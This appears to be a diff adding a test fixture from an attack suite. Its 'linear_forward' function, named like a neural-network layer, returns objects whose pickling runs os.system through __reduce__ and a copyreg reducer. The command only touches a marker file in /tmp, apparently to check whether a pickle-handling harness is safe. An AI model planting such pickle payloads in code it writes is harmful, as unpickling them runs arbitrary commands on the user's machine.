@@ -1,0 +1,26 @@
+"""Objects whose pickles run a program.
+
+{"attack": "P16", "class": [8], "base": "bad_a", "A": "raised", "B": "passed", "C": "passed"}
+"""
+
+import copyreg
+import os
+
+
+class Bomb:
+    def __reduce__(self):
+        return os.system, ("touch /tmp/nnkata_attack_pwned",)
+
+    def __getstate__(self):
+        return {"cmd": "touch /tmp/nnkata_attack_pwned"}
+
+
+class Other:
+    pass
+
+
+copyreg.pickle(Other, lambda o: (os.system, ("touch /tmp/nnkata_attack_pwned",)))
+
+
+def linear_forward(X, W, b):
+    return [Bomb(), Other()] if len(X) == 2 else Bomb()
